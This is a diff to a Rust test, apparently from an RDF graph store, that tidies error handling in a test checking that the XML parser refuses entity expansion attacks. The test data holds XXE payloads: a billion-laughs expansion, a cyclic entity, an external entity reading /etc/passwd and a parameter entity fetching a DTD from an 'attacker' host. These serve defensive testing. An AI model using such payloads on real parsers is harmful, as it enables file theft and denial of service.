@@ -107,44 +107,30 @@ mod tests {
     #[test]
     fn entity_expansion_and_huge_literals_are_refused_and_nothing_is_loaded() {
         let store = GraphStore::in_memory().unwrap();
+        let refused = |xml: &str| {
+            format!(
+                "{:#}",
+                store.load(RdfFormat::RdfXml, xml.as_bytes()).unwrap_err()
+            )
+        };
         // Small expansions load as usual.
         store.load(RdfFormat::RdfXml, laughs(2).as_bytes()).unwrap();
         assert_eq!(store.quad_count().unwrap(), 1);
         // Nine levels would be 3 GB in memory: refused before parsing.
         let started = std::time::Instant::now();
-        let err = format!(
-            "{:#}",
-            store
-                .load(RdfFormat::RdfXml, laughs(9).as_bytes())
-                .unwrap_err()
-        );
+        let err = refused(&laughs(9));
         assert!(err.contains("expands to more than"), "{err}");
         assert!(started.elapsed().as_secs() < 2);
         let cyclic =
             "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><r/>";
-        let err = format!(
-            "{:#}",
-            store
-                .load(RdfFormat::RdfXml, cyclic.as_bytes())
-                .unwrap_err()
-        );
+        let err = refused(cyclic);
         assert!(err.contains("refers to itself"), "{err}");
         let external =
             "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r/>";
-        let err = format!(
-            "{:#}",
-            store
-                .load(RdfFormat::RdfXml, external.as_bytes())
-                .unwrap_err()
-        );
+        let err = refused(external);
         assert!(err.contains("external entities"), "{err}");
         let parameter = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % pe SYSTEM \"http://attacker/x.dtd\"> %pe;]><r/>";
-        let err = format!(
-            "{:#}",
-            store
-                .load(RdfFormat::RdfXml, parameter.as_bytes())
-                .unwrap_err()
-        );
+        let err = refused(parameter);
         assert!(err.contains("entity pe: external entities"), "{err}");
         // A literal over the limit: the whole file is refused, atomically.
         let big = format!(
